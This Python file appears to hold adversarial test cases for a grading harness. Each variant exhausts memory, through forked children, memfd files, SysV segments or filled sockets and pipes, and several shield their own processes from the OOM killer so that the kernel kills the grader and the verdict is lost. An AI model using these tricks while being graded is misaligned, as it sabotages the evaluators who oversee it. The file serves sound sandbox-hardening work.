"""Takes memory until there is no more.

victim: api
tries: to have the kernel end the grader or the supervisor for it, and to lose the verdict
must: out_of_memory, crashed, timed_out, failed
seconds: 6
shows: armed
backends: docker-runc, docker-runsc
"""

import ctypes
import mmap
import os
import time

from fastapi import FastAPI

app = FastAPI()
MIB = 1 << 20


def least_likely_to_be_killed():
    for score in range(-1000, 1001, 100):
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write(str(score))
            break
        except OSError:
            pass


def fill(megabytes):
    held = []
    try:
        for _ in range(megabytes):
            held.append(bytearray(os.urandom(4096)) * 256)
    except MemoryError:
        pass
    return held


# variant: one_block
# backends: docker-runc, docker-runsc, local
print("armed", flush=True)
block = bytearray(10**11)

# variant: many_blocks
# backends: docker-runc, docker-runsc, local
print("armed", flush=True)
blocks = [bytearray(MIB) for _ in range(10_000)]

# variant: many_processes
print("armed", flush=True)
for _ in range(100):
    if os.fork() == 0:
        os.setsid()
        kept = fill(60)
        time.sleep(60)
        os._exit(0)

# variant: many_small_processes_that_the_kernel_likes
print("armed", flush=True)
least_likely_to_be_killed()
for _ in range(100):
    if os.fork() == 0:
        os.setsid()
        kept = fill(4)
        time.sleep(60)
        os._exit(0)

# variant: processes_that_grow_during_the_checks
print("armed", flush=True)
least_likely_to_be_killed()
for _ in range(90):
    if os.fork() == 0:
        os.setsid()
        kept = []
        for _ in range(8):
            time.sleep(0.15)
            kept += fill(1)
        time.sleep(60)
        os._exit(0)

# variant: memory_files
# must: failed, out_of_memory, crashed, timed_out
print("armed", flush=True)
files = []
for number in range(200):
    descriptor = os.memfd_create(str(number))
    files.append(descriptor)
    for _ in range(15):
        os.write(descriptor, b"x" * MIB)

# variant: shared_mappings
print("armed", flush=True)
for _ in range(40):
    if os.fork() == 0:
        shared = mmap.mmap(-1, 100 * MIB)
        for place in range(0, 100 * MIB, 4096):
            shared[place] = 1
        time.sleep(60)
        os._exit(0)

# variant: system_v_segments
# Such memory belongs to nobody and stays when its process has been killed.
print("armed", flush=True)
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
got = 0
for _ in range(60):
    segment = libc.shmget(0, 16 * MIB, 0o1600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    ctypes.memset(address, 1, 16 * MIB)
    libc.shmdt(ctypes.c_void_p(address))
    got += 1
print("segments:", got)

# variant: pipes
import fcntl

print("armed", flush=True)
pipes = []
for _ in range(110):
    try:
        reader, writer = os.pipe()
        fcntl.fcntl(writer, 1031, MIB)
        os.set_blocking(writer, False)
        while os.write(writer, b"x" * 65536):
            pass
    except OSError:
        pass
    pipes.append((reader, writer))

# variant: in_a_handler
# backends: docker-runc, docker-runsc, local
@app.post("/digest")
def digest():
    return {"length": len([bytearray(MIB) for _ in range(10_000)])}


print("armed", flush=True)

# variant: caught_each_time
# backends: docker-runc, docker-runsc, local
@app.post("/digest")
def digest():
    held = []
    try:
        while True:
            held.append(bytearray(MIB))
    except MemoryError:
        pass
    return {"digest": "anything", "length": len(held)}


print("armed", flush=True)

# variant: small_processes_with_full_sockets
# What waits in a socket is in nobody's account: the largest process that is left is the grader.
import sys

print("armed", flush=True)
least_likely_to_be_killed()
FILL = """
import socket, time
time.sleep({delay})
held = []
try:
    for _ in range(100):
        pair = socket.socketpair()
        held.append(pair)
        for one in pair:
            one.setblocking(False)
            try:
                while True:
                    one.send(b"x" * 60000)
            except BlockingIOError:
                pass
except OSError:
    pass
time.sleep(60)
"""
for number in range(60):
    if os.fork() == 0:
        code = FILL.format(delay=0.2 + number * 0.05)
        os.execv(sys.executable, [sys.executable, "-I", "-S", "-c", code])
